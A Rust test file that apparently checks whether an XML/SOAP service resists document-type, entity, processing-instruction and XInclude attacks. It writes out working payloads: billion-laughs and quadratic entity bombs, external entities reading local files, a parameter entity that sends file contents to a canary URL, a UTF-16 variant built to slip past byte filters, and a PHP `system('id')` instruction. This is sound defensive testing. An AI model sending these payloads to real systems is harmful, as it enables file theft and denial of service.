//! Document types, entities, processing instructions, and all that names another document.

use super::{
    Attack, Canary, Expected::Ok as Answered, Fault, Ko, V11, attack, in_envelope, structure_with,
};
use crate::harness::{MUT, envelope, structure};

/// A document type before an honest question that uses an entity.
fn with_doctype(doctype: &str) -> String {
    format!("<!DOCTYPE s:Envelope {doctype}>{}", envelope(&structure("&a;"))).replace("&amp;", "&")
}

fn doctypes(canary: &Canary) -> Vec<Attack> {
    let (url, file) = (canary.url(), canary.file_url());
    let mut laughs = "<!ENTITY a0 \"lol\">".to_owned();
    for level in 1..10 {
        let below = format!("&a{};", level - 1).repeat(10);
        laughs.push_str(&format!("<!ENTITY a{level} \"{below}\">"));
    }
    let quadratic = envelope(&structure("")).replace("<referenceContrat>", &"&a;".repeat(10_000));
    [
        ("billion laughs", with_doctype(&format!("[{laughs}<!ENTITY a \"&a9;\">]"))),
        (
            "quadratic blow-up",
            format!("<!DOCTYPE x [<!ENTITY a \"{}\">]>{quadratic}", "a".repeat(20_000)),
        ),
        ("an entity that names itself", with_doctype("[<!ENTITY a \"&a;\">]")),
        ("internal entity", with_doctype(&format!("[<!ENTITY a \"{MUT}\">]"))),
        ("external entity by HTTP", with_doctype(&format!("[<!ENTITY a SYSTEM \"{url}\">]"))),
        ("external entity of a file", with_doctype(&format!("[<!ENTITY a SYSTEM \"{file}\">]"))),
        (
            "external entity by PUBLIC",
            with_doctype(&format!("[<!ENTITY a PUBLIC \"x\" \"{url}\">]")),
        ),
        ("parameter entity", with_doctype(&format!("[<!ENTITY % p SYSTEM \"{url}\"> %p;]"))),
        (
            "parameter entity that builds an entity",
            with_doctype(&format!(
                "[<!ENTITY % f SYSTEM \"{file}\"><!ENTITY % p \"<!ENTITY a SYSTEM \
                 '{url}?%f;'>\"> %p;]"
            )),
        ),
        ("external subset", with_doctype(&format!("SYSTEM \"{url}\""))),
        ("external subset by PUBLIC", with_doctype(&format!("PUBLIC \"-//X\" \"{url}\""))),
        ("external subset by FTP", with_doctype(&format!("SYSTEM \"ftp://{}/\"", canary.host()))),
        ("unparsed entity", with_doctype(&format!("[<!NOTATION n SYSTEM \"{url}\">]"))),
        ("default attribute", with_doctype("[<!ATTLIST referenceContrat xsi:nil CDATA \"true\">]")),
        ("empty document type", with_doctype("")),
        ("empty internal subset", with_doctype("[]")),
        ("document type that does not end", "<!DOCTYPE x [<!ENTITY a \"".repeat(1000)),
        ("document type in small letters", with_doctype("").replace("DOCTYPE", "doctype")),
        ("document type inside", envelope(&format!("<!DOCTYPE a>{}", structure(MUT)))),
        ("document type behind", format!("{}<!DOCTYPE a>", envelope(&structure(MUT)))),
        ("entity that nobody declared", envelope(&structure("")).replace("</ref", "&a;</ref")),
        ("HTML's entities", envelope(&structure("")).replace("</ref", "&eacute;</ref")),
    ]
    .into_iter()
    .map(|(name, text)| Attack::new(name, text, Fault))
    .collect()
}

#[tokio::test]
async fn document_types_and_entities() {
    attack(|canary| {
        let mut attacks = doctypes(canary);
        // Filters that look for bytes do not find this one.
        let text = with_doctype(&format!("[<!ENTITY a SYSTEM \"{}\">]", canary.file_url()));
        let wide: Vec<u8> =
            [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect();
        attacks.push(Attack::new("external entity in UTF-16", wide, Fault).of_type("text/xml"));
        attacks
    })
    .await;
}

#[tokio::test]
async fn processing_instructions() {
    attack(|canary| {
        let honest = envelope(&structure(MUT));
        let url = canary.url();
        [
            format!("<?xml-stylesheet type=\"text/xsl\" href=\"{url}\"?>{honest}"),
            format!("<?xml version=\"1.0\"?><?xml-model href=\"{url}\"?>{honest}"),
            format!("<?php system('id') ?>{honest}"),
            honest.replace("<s:Body>", "<s:Body><?x y?>"),
            honest.replace(MUT, &format!("<?x?>{MUT}")),
            format!("{honest}<?x y?>"),
            format!("{honest}<?xml version=\"1.0\"?>"),
            format!(" <?xml version=\"1.0\"?>{honest}"),
        ]
        .map(|text| Attack::new(text.clone(), text, Fault))
        .into()
    })
    .await;
}

/// Attributes and elements that name documents are attributes and elements, and nothing else.
#[tokio::test]
async fn names_of_other_documents_are_not_followed() {
    attack(|canary| {
        let (url, file) = (canary.url(), canary.file_url());
        let xsi = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"";
        let xi = "xmlns:xi=\"http://www.w3.org/2001/XInclude\"";
        let included = format!("<xi:include {xi} href=\"{file}\" parse=\"text\"/>");
        let location = format!("{xsi} xsi:schemaLocation=\"http://sfr.fr/hermes/eReprov/ {url}\"");
        let fine = [
            structure_with(&location, ""),
            structure_with(&format!("{xsi} xsi:noNamespaceSchemaLocation=\"{url}\""), ""),
            structure_with(&format!("xml:base=\"{url}\""), ""),
            structure_with(
                &format!("xmlns:l=\"http://www.w3.org/1999/xlink\" l:href=\"{url}\""),
                "",
            ),
            structure_with(&format!("xmlns:u=\"{url}\" u:a=\"{file}\""), ""),
            structure_with(&format!("xmlns:s=\"{V11}\" s:encodingStyle=\"{url}\""), ""),
        ];
        let mut attacks: Vec<_> =
            fine.map(|body| Attack::new(body.clone(), in_envelope("", &body), Answered)).into();
        let header = in_envelope(&included, &structure(MUT));
        attacks.push(Attack::new("XInclude in a header", header, Answered));
        let policy = format!("<p:PolicyReference xmlns:p=\"urn:p\" URI=\"{url}\"/>");
        let header = in_envelope(&policy, &structure(MUT));
        attacks.push(Attack::new("a policy elsewhere", header, Answered));
        attacks.push(Attack::new(
            "XInclude as a parameter",
            in_envelope("", &structure_with("", &included)),
            Ko("20001"),
        ));
        let inside = envelope(&structure(MUT)).replace(MUT, &included);
        attacks.push(Attack::new("XInclude as a value", inside, Ko("20001")));
        let xop = format!(
            "<x:Include xmlns:x=\"http://www.w3.org/2004/08/xop/include\" href=\"{url}\"/>"
        );
        let inside = envelope(&structure(MUT)).replace(MUT, &xop);
        attacks.push(Attack::new("XOP as a value", inside, Ko("20001")));
        for reference in [format!("href=\"{url}\""), "href=\"#1\"".into(), "href=\"cid:1\"".into()]
        {
            let text = envelope(&structure(MUT));
            let text = text.replace(
                &format!("<referenceContrat>{MUT}</referenceContrat>"),
                &format!("<referenceContrat {reference}/>"),
            );
            attacks.push(Attack::new(reference, text, Ko("20001")));
        }
        attacks
    })
    .await;
}
